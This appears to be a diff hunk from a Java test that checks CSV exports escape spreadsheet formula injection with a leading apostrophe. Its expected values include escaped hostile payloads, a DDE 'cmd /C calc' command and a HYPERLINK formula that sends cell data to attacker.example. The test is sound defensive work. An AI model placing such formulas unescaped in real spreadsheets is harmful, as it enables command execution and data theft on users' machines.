@@ -87,7 +87,7 @@ class FormulaInjectionTest {
                 "'@Jiangsu", "'=cmd|' /C calc'!A0 Government", "'-Host Government", "'+Developer Co.", "'=SUM(A1:A9)", "'+tab note",
                 "'=HYPERLINK(\"http://attacker.example/?\"&A1;\"click\")", "'+SUM(1+1) an invented report", "'-2+3 Press",
                 "'@SUM(1)*cmd|' /C calc'!A0", "'=1+2 tab author", "'=3+4 CR title", "'-1 note", "'+Formula Zone", "'=公式区",
-                "'-Zone Developer", "'@Hubei", "'=evidence behind a tab", "'=1+1 a statistic's note", "-12.8");
+                "'-Zone Developer", "'@Hubei", "'=evidence behind a tab", "'=1+1 a statistic's note", "'=1+1 a park note", "-12.8");
         assertThat(all(siteCsvs, p -> p.toString().contains("data/figures/"))).contains("'=1+2 Formula Park");
         assertThat(all(figureCsvs, p -> true)).contains("'=1+2 Formula Park");
         List<String> gradebook = all(gradeCsvs, p -> p.endsWith("grades.csv"));
